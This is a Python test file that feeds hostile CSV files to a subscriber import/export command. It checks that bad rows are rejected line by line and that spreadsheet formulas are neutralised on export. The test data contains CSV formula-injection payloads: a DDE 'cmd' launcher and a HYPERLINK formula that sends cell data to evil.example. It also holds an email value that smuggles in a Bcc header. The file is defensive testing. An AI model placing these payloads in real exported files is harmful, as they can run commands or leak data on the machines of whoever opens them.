"""Hostile CSV files through `syndication subscribers import` and back out of `export`.

Bad encodings (Latin-1, UTF-16 with and without BOM, binary), byte-order marks, wrong
delimiters, quotes, embedded newlines, CR-only line ends, NUL bytes, huge cells and
formula injection. Each file gets exit 0 or 1, one `FILE:LINE: reason` line per rejected
row (never a traceback), the expected rows imported, and the good subscribers untouched.
Formula-like text is imported as written and exported with a leading `'` so a spreadsheet
shows it as text; importing the export gives the same text back.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from harness.sites import Site, make_site, open_site
from subscribers.csvio.fileformat import FORMULA_STARTS, plain
from subscribers.directory import find_subscriber
from subscribers.errors import InvalidValue
from subscribers.fields import clean_text
from syndication.cli import cli
from tests.security.conftest import Tally, good_data

HEADER = "email,name,organisation,languages,lists,themes,frequency\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "+32 2 528 60 11", "-", "=",
]
# name → (file bytes, rows imported, line numbers rejected)
CASES: dict[str, tuple[bytes, int, list[int]]] = {
    "utf8 good": ((HEADER + "a@example.org,Émile Ünal,Le Soir,fr,press,,\n").encode(), 1, []),
    "utf8 bom": (("\ufeff" + HEADER + "b@example.org,B,,nl,press,,\n").encode(), 1, []),
    "latin-1": ((HEADER + "c@example.org,José,Café,fr,press,,\nd@example.org,D,,fr,press,,\n")
                .encode("latin-1"), 1, [2]),
    "utf-16 bom": ((HEADER + "e@example.org,E,,fr,press,,\n").encode("utf-16"), 0, [1]),
    "utf-16-le": ((HEADER + "f@example.org,F,,fr,press,,\n").encode("utf-16-le"), 0, [1]),
    "utf-16-be": ((HEADER + "g@example.org,G,,fr,press,,\n").encode("utf-16-be"), 0, [1]),
    "binary": (bytes(range(256)) * 8, 0, [1]),
    "empty": (b"", 0, [1]),
    "header only": (HEADER.encode(), 0, []),
    "semicolons": (b"email;name;lists\nh@example.org;H;\"press;public\"\n", 1, []),
    "tabs": (b"email\tname\tlists\ni@example.org\tI\tpress\n", 1, []),
    "pipes": (b"email|name|lists\nj@example.org|J|press\n", 0, [1]),
    "no header": (b"k@example.org,K,,fr,press,,\n", 0, [1]),
    "duplicate column": (b"email,name,name\nl@example.org,L,L\n", 0, [1]),
    "crlf": ((HEADER + "m@example.org,M,,fr,press,,\r\n").replace("\n", "\r\n").encode(), 1, []),
    "cr only": ((HEADER + "n@example.org,N,,fr,press,,\n").replace("\n", "\r").encode(), 0, [1]),
    "quotes": ((HEADER + 'o@example.org,"O""Neil, ""Jr""",,fr,press,,\n').encode(), 1, []),
    "unclosed quote": ((HEADER + 'p@example.org,"open,,fr,press,,\nq@example.org,Q\n')
                       .encode(), 0, [2]),
    "embedded newlines": ((HEADER + 'r@example.org,"Line\none","Org\r\ntwo",fr,press,,\n'
                           "s@example.org,S,,fr,press,,\n").encode(), 2, []),
    "nul byte": ((HEADER + "t@example.org,T\x00,,fr,press,,\nu@example.org,U,,fr,press,,\n")
                 .encode(), 1, [2]),
    "control chars": ((HEADER + "v@example.org,V\x1b[31m,,fr,press,,\n").encode(), 0, [2]),
    "huge cell": ((HEADER + "w@example.org," + "x" * 200_000 + ",,fr,press,,\n"
                   "x@example.org,X,,fr,press,,\n").encode(), 1, [2]),
    "long name": ((HEADER + "y@example.org," + "y" * 201 + ",,fr,press,,\n").encode(), 0, [2]),
    "too many cells": ((HEADER + "z@example.org,Z,,fr,press,,,extra\n").encode(), 0, [2]),
    "bad values": ((HEADER + "aa@example.org,,,de,press,,\nab@example.org,,,fr,nope,,\n"
                    "ac@example.org,,,fr,press,nope,\nad@example.org,,,fr,press,,hourly\n")
                   .encode(), 0, [2, 3, 4, 5]),
    "header injection in email": ((HEADER + '"ae@example.org\r\nBcc: evil@example.org",,,,,,\n')
                                  .encode(), 0, [2]),
    "formula email": ((HEADER + "=cmd|' /C calc'!A0,,,,,,\n+1@example.org,,,fr,press,,\n")
                      .encode(), 1, [2]),
    "formulas": (
        (HEADER + "".join(
            f'formula{number}@example.org,{_quoted},{_quoted},fr,press,,\n'
            for number, _quoted in enumerate(
                '"' + text.replace('"', '""') + '"' for text in FORMULAS
            )
        )).encode(), len(FORMULAS), [],
    ),
    "existing subscriber": ((HEADER + "good@example.org,Evil,,fr,press,,\n").encode(), 0, [2]),
}
ERROR_LINE = re.compile(r"^(?P<file>.+\.csv):(?P<line>\d+): (?P<reason>\S.*)$")


def import_file(site: Site, path: Path) -> Result:
    """`syndication --config CONFIG subscribers import PATH`, in process."""
    return CliRunner().invoke(cli, ["--config", str(site.config), "subscribers", "import",
                                    str(path)])


def test_every_hostile_file_is_reported_by_line_and_spares_the_good_data(
    site: Site, tmp_path: Path
) -> None:
    before = good_data(site.engine)
    tally = Tally("hostile CSV imports")
    for number, (name, (content, imported, rejected)) in enumerate(CASES.items()):
        path = tmp_path / f"case{number}.csv"
        path.write_bytes(content)
        result = import_file(site, path)
        assert result.exception is None or isinstance(result.exception, SystemExit), name
        assert "Traceback" not in result.output, name
        assert result.exit_code == (1 if rejected else 0), (name, result.output)
        errors = [ERROR_LINE.match(line) for line in result.stderr.splitlines()]
        assert all(errors), (name, result.stderr)
        assert [int(m.group("line")) for m in errors if m] == rejected, (name, result.stderr)
        assert all(m.group("file") == str(path) for m in errors if m)
        word = "row" if imported == 1 else "rows"
        assert f"imported {imported} {word}, rejected {len(rejected)}" in result.stdout, name
        reason = errors[0].group("reason")[:40] if errors and errors[0] else ""
        tally.add(name, f"{imported} in, {len(rejected)} out {reason}")
    tally.print()
    assert good_data(site.engine) == before
    assert find_subscriber(site.engine, "o@example.org").name == 'O"Neil, "Jr"'
    assert find_subscriber(site.engine, "r@example.org").organisation == "Org two"


def test_formulas_are_imported_as_text_and_exported_neutralised(
    site: Site, tmp_path: Path
) -> None:
    content, _imported, _rejected = CASES["formulas"]
    path = tmp_path / "formulas.csv"
    path.write_bytes(content)
    assert import_file(site, path).exit_code == 0
    for number, text in enumerate(FORMULAS):
        stored = find_subscriber(site.engine, f"formula{number}@example.org")
        assert (stored.name, stored.organisation) == (text, text)  # the text, as written

    exported = CliRunner().invoke(cli, ["--config", str(site.config), "subscribers", "export"])
    assert exported.exit_code == 0
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row if cell)
    by_email = {row[0]: row for row in rows[1:]}
    for number, text in enumerate(FORMULAS):
        name, organisation = by_email[f"formula{number}@example.org"][1:3]
        assert name == organisation == "'" + text  # a spreadsheet shows it, never runs it
        assert plain(name) == text
    # The export imports back to the same text, into another site.
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    other = open_site(make_site(tmp_path / "other"))
    try:
        reimported = import_file(other, again)
        assert reimported.exit_code == 0, reimported.output
        assert f"imported {len(rows) - 1} rows" in reimported.stdout
        for number, text in enumerate(FORMULAS):
            person = find_subscriber(other.engine, f"formula{number}@example.org")
            assert (person.name, person.organisation) == (text, text)
    finally:
        other.engine.dispose()


EXAMPLES = itertools.count()
CELL = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40) | st.sampled_from(
    [*FORMULAS, "'=x", "''", "\t=1", " =1+1", "a\r\nb", "\x00", "\u2028x"]
)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(CELL, min_size=1, max_size=4))
def test_any_cell_text_round_trips_or_is_refused_by_line(
    site: Site, tmp_path: Path, names: list[str]
) -> None:
    path = tmp_path / "property.csv"
    out = io.StringIO()
    # CRLF rows, as Excel writes them: csv then quotes a cell holding a bare CR, which a
    # "\n" terminator would leave bare, making a file whose CR is a line break to any reader.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["email", "name"])
    emails = [f"p{next(EXAMPLES)}@example.org" for _name in names]
    lines = []  # the file line each row starts on (a quoted cell may hold line breaks)
    for email, name in zip(emails, names, strict=True):
        lines.append(out.getvalue().count("\n") + 1)
        writer.writerow([email, name])
    path.write_text(out.getvalue(), encoding="utf-8")

    result = import_file(site, path)

    assert result.exception is None or isinstance(result.exception, SystemExit)
    refused = {int(m.group("line")) for m in map(ERROR_LINE.match, result.stderr.splitlines())
               if m}
    for line, email, name in zip(lines, emails, names, strict=True):
        try:
            expected = clean_text(plain(name).strip(), "name")
        except InvalidValue:
            expected = None
        if expected is None:
            assert line in refused, (name, result.stderr)
        else:
            assert find_subscriber(site.engine, email).name == expected, (name, result.output)


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"\r\r\r", b'"' * 1000, b"," * 100_000])
def test_degenerate_files_fail_cleanly(site: Site, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "degenerate.csv"
    path.write_bytes(content)
    result = import_file(site, path)
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert ERROR_LINE.match(result.stderr.splitlines()[0])


PART_FORMULAS = ["Dupont;=cmd|' /C calc'!A0", "Org;+1;@SUM(1)", "a,-2"]


def test_every_delimited_part_of_an_exported_cell_is_neutralised(
    site: Site, tmp_path: Path
) -> None:
    path = tmp_path / "parts.csv"
    path.write_text(HEADER + "".join(
        f'part{number}@example.org,"{text}",,fr,press,,\n' for number, text in enumerate(PART_FORMULAS)
    ), encoding="utf-8")
    assert import_file(site, path).exit_code == 0

    exported = CliRunner().invoke(cli, ["--config", str(site.config), "subscribers", "export"])
    assert exported.exit_code == 0
    # Read as Belgian Excel does (";"), as a tab-splitting reader does, and as the file is (",").
    for delimiter in (";", "\t", ","):
        cells = [cell.strip('"') for line in exported.stdout.splitlines()
                 for cell in line.split(delimiter)]
        assert all(cell[:1] not in FORMULA_STARTS for cell in cells if cell), delimiter
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    other = open_site(make_site(tmp_path / "other"))
    try:
        assert import_file(other, again).exit_code == 0
        for number, text in enumerate(PART_FORMULAS):
            assert find_subscriber(other.engine, f"part{number}@example.org").name == text
    finally:
        other.engine.dispose()
